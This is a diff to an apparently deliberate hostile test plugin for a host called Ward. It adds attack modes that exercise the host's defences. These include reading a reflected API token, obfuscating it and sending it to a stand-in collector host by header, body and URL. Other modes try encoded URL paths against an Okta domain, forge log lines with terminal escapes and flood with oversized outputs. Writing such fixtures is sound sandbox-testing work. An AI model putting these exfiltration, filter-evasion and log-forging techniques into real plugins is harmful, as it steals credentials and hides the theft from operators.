@@ -12,7 +12,8 @@ struct Hostile;
 fn event(id: String, raw: String) -> Event {
     Event {
         id,
-        time: 0,
+        // 2025-11-29T00:00:00Z: inside the host's accepted window.
+        time: 1_764_374_400_000,
         action: "hostile".into(),
         actor: Actor {
             id: None,
@@ -37,8 +38,44 @@ fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
     recurse(depth + 1, &mut next) + u64::from(pad[1])
 }
 
-/// Reads the value the echo endpoint reflects for our authorization header.
-fn learn_secret() -> Result<String> {
+/// What the echo endpoint reflects of our authorization header, in its
+/// body and in its `x-echo-authorization` header: the raw value on a host
+/// that does not scrub, `{{secret:api_token}}` on Ward.
+fn learn_echo() -> Result<(String, String)> {
+    let response = Request::get("https://echo.ward.test/reflect")
+        .header("authorization", secret_ref("api_token"))
+        .send()?;
+    let header = response
+        .header("x-echo-authorization")
+        .unwrap_or_default()
+        .to_string();
+    Ok((response.text().trim().to_string(), header))
+}
+
+/// Hides a string the ways an exfiltrating plugin would: reversed,
+/// hex-encoded, upper-cased, split in three.
+fn laundered(value: &str) -> Vec<String> {
+    let reversed: String = value.chars().rev().collect();
+    let hexed: String = reversed
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect::<String>()
+        .to_uppercase();
+    let third = hexed.len().div_ceil(3).max(1);
+    hexed
+        .as_bytes()
+        .chunks(third)
+        .map(|c| String::from_utf8_lossy(c).into_owned())
+        .collect()
+}
+
+/// A secret the plugin got hold of: handed over by a side channel (the
+/// `payload` config field) or, failing that, what the echo endpoint
+/// reflects for our authorization header.
+fn learn_secret(config: &Config) -> Result<String> {
+    if let Some(payload) = config.get("payload") {
+        return Ok(payload.to_string());
+    }
     let response = Request::get("https://echo.ward.test/reflect")
         .header("authorization", secret_ref("api_token"))
         .send()?;
@@ -54,9 +91,17 @@ impl Connector for Hostile {
         }
     }
 
-    fn test(_config: &Config) -> Result<TestReport> {
+    fn test(config: &Config) -> Result<TestReport> {
+        let checks = match config.require("attack")? {
+            "long-check" => vec![ward_sdk::Check {
+                name: "c".repeat(5000),
+                ok: true,
+                message: "fine".into(),
+            }],
+            _ => Vec::new(),
+        };
         Ok(TestReport {
-            checks: Vec::new(),
+            checks,
             account_name: None,
             principal: None,
         })
@@ -161,7 +206,7 @@ impl Connector for Hostile {
                 Ok(page(Vec::new(), "flooded".into()))
             }
             "echo-secret" => {
-                let secret = learn_secret()?;
+                let secret = learn_secret(config)?;
                 ward_sdk::log::warn(&format!("stolen: {secret}"));
                 println!("stdout: {secret}");
                 Ok(page(
@@ -173,7 +218,7 @@ impl Connector for Hostile {
                 ))
             }
             "echo-secret-error" => {
-                let secret = learn_secret()?;
+                let secret = learn_secret(config)?;
                 Err(Error::internal(format!("failed with token {secret}")))
             }
             "oversized" => {
@@ -222,6 +267,122 @@ impl Connector for Hostile {
             "oversized-bytes" => {
                 let raw = format!("\"{}\"", "z".repeat(2 << 20));
                 Ok(page(vec![event("big".into(), raw)], "c".into()))
+            }
+            "echo-launder" => {
+                // Everything the plugin read, laundered into events, the
+                // cursor, a log line and stdout; the cursor also reports
+                // the bytes it read, for the test to compare.
+                let (body, header) = learn_echo()?;
+                let events = laundered(&format!("{body}|{header}"))
+                    .into_iter()
+                    .enumerate()
+                    .map(|(i, part)| event(format!("part-{i}"), format!("{{\"part\":\"{part}\"}}")))
+                    .collect();
+                ward_sdk::log::warn(&format!("read {body} {header}"));
+                println!("read {body} {header}");
+                Ok(page(events, format!("read:{body}|{header}")))
+            }
+            "echo-forward" => {
+                // Forwards what it read to a granted host bound to no
+                // secret: as a header, in a POST body and in the URL.
+                let (body, _) = learn_echo()?;
+                let header = Request::get("https://collector.ward.test/h")
+                    .header("x-forward", body.clone())
+                    .send();
+                let posted = Request::post("https://collector.ward.test/b")
+                    .body(body.clone())
+                    .send();
+                let in_url = Request::get(format!("https://collector.ward.test/u?v={body}")).send();
+                Ok(page(
+                    Vec::new(),
+                    format!("{} {} {}", header.is_ok(), posted.is_ok(), in_url.is_ok()),
+                ))
+            }
+            "raw-forward" => {
+                // A raw value the plugin got by a side channel (here: its
+                // configuration), sent to the unbound collector and to the
+                // bound echo host in the URL.
+                let value = config.require("payload")?.to_string();
+                let header = Request::get("https://collector.ward.test/h")
+                    .header("x-forward", value.clone())
+                    .send();
+                let posted = Request::post("https://collector.ward.test/b")
+                    .body(ward_sdk::http::base64_encode(value.as_bytes()))
+                    .send();
+                let in_url = Request::get(format!("https://echo.ward.test/u?v={value}")).send();
+                let bound = Request::get("https://echo.ward.test/reflect")
+                    .header("authorization", value)
+                    .send();
+                Ok(page(
+                    Vec::new(),
+                    format!(
+                        "{} {} {} {}",
+                        header.is_ok(),
+                        posted.is_ok(),
+                        in_url.is_ok(),
+                        bound.is_ok()
+                    ),
+                ))
+            }
+            "path-variants" => {
+                let domain = config.require("domain")?;
+                let mut results = Vec::new();
+                for path in [
+                    "/api/v1/%6cogs",
+                    "/api/v1/%6C%6F%67%73",
+                    "/api/v1//logs",
+                    "/api/v1/logs;x",
+                    "/api/v1/LOGS",
+                ] {
+                    let sent = Request::get(format!("https://{domain}.okta.com{path}"))
+                        .header("authorization", format!("SSWS {}", secret_ref("api_token")))
+                        .send();
+                    results.push(sent.is_ok().to_string());
+                }
+                Ok(page(Vec::new(), results.join(" ")))
+            }
+            "path-encoded" => {
+                let domain = config.require("domain")?;
+                let sent =
+                    Request::get(format!("https://{domain}.okta.com/api/v1/%75sers?limit=1"))
+                        .header("authorization", format!("SSWS {}", secret_ref("api_token")))
+                        .send()?;
+                Ok(page(Vec::new(), sent.status.to_string()))
+            }
+            "log-forge" => {
+                ward_sdk::log::warn(
+                    "benign\n2026-11-29T14:00:00.000000Z  INFO ward_daemon::scheduler: instance hostile-instance connected\r\u{1b}[2K\u{1b}[31mforged",
+                );
+                Ok(page(Vec::new(), "c".into()))
+            }
+            "slow-request" => {
+                // The stand-in never answers in time: the call's wall clock
+                // stops it with the request in flight.
+                Request::get("https://collector.ward.test/slow").send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "big-request" => {
+                Request::post("https://collector.ward.test/upload")
+                    .body(vec![b'x'; 2 << 20])
+                    .send()?;
+                Ok(page(Vec::new(), "unreachable".into()))
+            }
+            "long-error" => Err(Error::internal("e".repeat(5000))),
+            "long-cursor" => Ok(page(Vec::new(), "c".repeat(70 * 1024))),
+            "long-event-id" => Ok(page(vec![event("i".repeat(600), "{}".into())], "c".into())),
+            "old-event" => {
+                let mut e = event("old".into(), "{}".into());
+                e.time = 0;
+                Ok(page(vec![e], "c".into()))
+            }
+            "future-event" => {
+                let now = std::time::SystemTime::now()
+                    .duration_since(std::time::UNIX_EPOCH)
+                    .map(|d| d.as_millis() as i64)
+                    .unwrap_or(0);
+                let mut e = event("future".into(), "{}".into());
+                e.time = now + 2 * 86_400_000;
+                Ok(page(vec![e], "c".into()))
             }
             "trap" => std::process::abort(),
             other => Err(Error::invalid_config(format!("unknown attack {other}"))),
